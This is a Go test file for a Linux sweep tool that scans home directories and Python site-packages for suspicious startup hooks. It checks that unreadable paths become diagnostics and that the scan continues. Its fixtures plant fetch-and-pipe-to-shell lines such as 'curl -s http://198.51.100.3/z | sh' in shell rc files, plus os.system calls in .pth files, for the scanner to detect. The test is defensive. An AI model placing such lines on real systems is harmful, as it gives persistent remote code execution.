//go:build linux

package sweep

import (
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

const unreadableChild = "AIRLOCK_SWEEP_UNREADABLE_CHILD"

// TestUnreadableDirectory checks that directories and files the sweep may
// not read become diagnostics and the sweep goes on. Root reads through
// mode 000, so when the test runs as root it runs itself again as the
// unprivileged user nobody (65534); when that is impossible it skips.
func TestUnreadableDirectory(t *testing.T) {
	if os.Geteuid() == 0 && os.Getenv(unreadableChild) == "" {
		runAsNobody(t)
		return
	}
	if os.Geteuid() == 0 {
		t.Fatal("child still runs as root")
	}
	h := parseHost(t, []byte(`
homes /home/u
mode home/u/secret 0000
mode home/u/.bashrc 0000
mode usr/lib/python3/dist-packages 0000
mode home/u/visible/.venv/lib/python3.11/site-packages/hook.pth 0000
-- home/u/secret/.venv/pyvenv.cfg --
-- home/u/visible/.venv/pyvenv.cfg --
home = /usr/bin
-- home/u/visible/.venv/lib/python3.11/site-packages/six-1.16.0.dist-info/METADATA --
Name: six
Version: 1.16.0

-- home/u/visible/.venv/lib/python3.11/site-packages/six-1.16.0.dist-info/RECORD --
-- home/u/visible/.venv/lib/python3.11/site-packages/hook.pth --
import os; os.system('id')
-- home/u/.bashrc --
curl http://x | sh
-- home/u/.zshrc --
curl -s http://198.51.100.3/z | sh
-- usr/lib/python3/dist-packages/x.pth --
import os; os.system('id')
`))
	root := h.build(t)
	t.Cleanup(func() {
		// let t.TempDir remove what mode 000 locked
		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
			if err == nil || os.IsPermission(err) {
				os.Chmod(p, 0o755)
			}
			return nil
		})
		for _, p := range []string{"home/u/secret", "usr/lib/python3/dist-packages", "home/u/.bashrc"} {
			os.Chmod(filepath.Join(root, p), 0o755)
		}
	})
	res, err := Sweep(t.Context(), Options{Root: root, Homes: h.homes, Now: h.now})
	if err != nil {
		t.Fatal(err)
	}
	var diags []string
	for _, d := range res.Diagnostics {
		diags = append(diags, d.String())
	}
	got := strings.Join(diags, "\n")
	for _, want := range []string{
		"/home/u/secret: cannot list directory: permission denied",
		"/home/u/.bashrc: not read: permission denied",
		"/usr/lib/python3/dist-packages: cannot read site directory: ",
		"/home/u/visible/.venv/lib/python3.11/site-packages/hook.pth: startup file not read: permission denied",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing diagnostic %q in:\n%s", want, got)
		}
	}
	// the sweep went on: the readable venv and .zshrc were still inspected
	found := false
	for _, e := range res.Environments {
		if e.Path == "/home/u/visible/.venv/lib/python3.11/site-packages" && len(e.Packages) == 1 {
			found = true
		}
	}
	if !found {
		t.Errorf("readable venv not listed: %+v", res.Environments)
	}
	fs := findings(res)
	if len(fs) != 1 || fs[0].Path != "/home/u/.zshrc" {
		t.Errorf("want only the .zshrc finding, got %+v", fs)
	}
}

func runAsNobody(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Skipf("cannot find the test binary: %v", err)
	}
	dir, err := os.MkdirTemp("", "airlock-sweep-nobody-")
	mustDo(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	mustDo(t, os.Chmod(dir, 0o755))
	copyPath := filepath.Join(dir, "sweep.test")
	src, err := os.Open(self)
	mustDo(t, err)
	dst, err := os.OpenFile(copyPath, os.O_CREATE|os.O_WRONLY, 0o755)
	mustDo(t, err)
	_, err = io.Copy(dst, src)
	src.Close()
	mustDo(t, dst.Close())
	mustDo(t, err)
	cmd := exec.Command(copyPath, "-test.run=^TestUnreadableDirectory$", "-test.v", "-test.count=1")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), unreadableChild+"=1", "TMPDIR=/tmp")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) && strings.Contains(string(out), "--- FAIL") {
			t.Fatalf("as nobody:\n%s", out)
		}
		t.Skipf("cannot run the check as an unprivileged user (%v): %s", err, out)
	}
	if !strings.Contains(string(out), "--- PASS: TestUnreadableDirectory") {
		t.Fatalf("as nobody, the test did not pass:\n%s", out)
	}
	t.Logf("ran as uid 65534:\n%s", out)
}
